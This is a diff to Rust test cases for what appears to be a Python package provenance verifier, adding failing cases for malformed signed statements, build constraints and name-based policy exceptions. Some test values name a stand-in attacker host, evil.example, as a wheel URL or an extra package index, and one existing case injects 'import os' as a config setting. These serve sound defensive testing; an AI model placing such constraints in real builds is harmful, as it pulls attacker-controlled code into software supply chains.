@@ -23,6 +23,9 @@ pub(super) fn statements() -> Vec<Case> {
     let subject = "\"subject\":";
     let twice = text.replacen(subject, &format!("{subject}[],{subject}"), 1);
     assert_ne!(text, twice);
+    let parts = statement();
+    let listed =
+        json!([parts["_type"], parts["subject"], parts["predicateType"], parts["predicate"]]);
     vec![
         signed(
             "subject_name_signed_fail",
@@ -69,6 +72,18 @@ pub(super) fn statements() -> Vec<Case> {
             "The signed statement names `subject` twice, so that two readers can see two of them.",
             STATEMENT_FAILS,
             &twice,
+        ),
+        signed_text(
+            "statement_as_list_fail",
+            "The signed statement is a list of its values, which some readers take for an object of them.",
+            STATEMENT_FAILS,
+            &listed.to_string(),
+        ),
+        signed(
+            "statement_key_in_other_case_fail",
+            "The signed statement has a second subject under `Subject`, which some readers take for `subject`.",
+            STATEMENT_FAILS,
+            |it| it["Subject"] = json!([]),
         ),
         signed_text(
             "payload_not_json_fail",
@@ -191,6 +206,24 @@ pub(super) fn builds() -> Vec<Case> {
             |build| {
                 let setting = ("inject".to_owned(), json!("import os"));
                 build.external.config_settings = [setting].into();
+            },
+        ),
+        built(
+            "constraint_by_url_fail",
+            "A constraint of the build names a requirement by a URL, which no index lists.",
+            &[("parameters", "provenance-malformed")],
+            |build| {
+                let url = "flit_core @ https://evil.example/flit_core-3.0-py3-none-any.whl";
+                build.external.build_constraints = vec![url.to_owned()];
+            },
+        ),
+        built(
+            "constraint_with_option_fail",
+            "A constraint of the build has an option of the installer on a line of its own.",
+            &[("parameters", "provenance-malformed")],
+            |build| {
+                let text = "flit_core\n--extra-index-url https://evil.example/simple";
+                build.external.build_constraints = vec![text.to_owned()];
             },
         ),
         built(
@@ -378,9 +411,37 @@ pub(super) fn decisions() -> Vec<Case> {
         &exception("2026-12-31T00:00:00Z").replace(&digest.to_string(), &"0".repeat(64)),
     );
     another.bundle = None;
+    let renamed = |name: &str, changed: &str, reason: &'static str, names: &str| {
+        let owner = "owner = \"release team\"\n";
+        let policy = exception("2026-12-31T00:00:00Z").replace(owner, &format!("{owner}{names}"));
+        let mut case = with(name, changed, &[("subject-name", reason)], &policy);
+        case.filename = "demo-1.0-py3-none-win_amd64.whl".to_owned();
+        case.bundle = None;
+        case
+    };
+    let mut named = with(
+        "excepted_by_name",
+        "There is no attestation, and the policy has an exception for the file under its name.",
+        &[],
+        &(exception("2026-12-31T00:00:00Z") + "names = [\"demo-1.0-py3-none-any.whl\"]\n"),
+    );
+    named.bundle = None;
     vec![
         without,
         another,
+        named,
+        renamed(
+            "excepted_renamed_fail",
+            "The policy has an exception for the bytes, which were then renamed to another platform.",
+            "metadata-tags-mismatch",
+            "",
+        ),
+        renamed(
+            "excepted_by_another_name_fail",
+            "The policy has an exception for the bytes under another name.",
+            "subject-name-mismatch",
+            "names = [\"demo-1.0-py3-none-any.whl\"]\n",
+        ),
         with(
             "exception_expired_fail",
             "Everything holds, and the policy has an exception for the file whose time is over.",
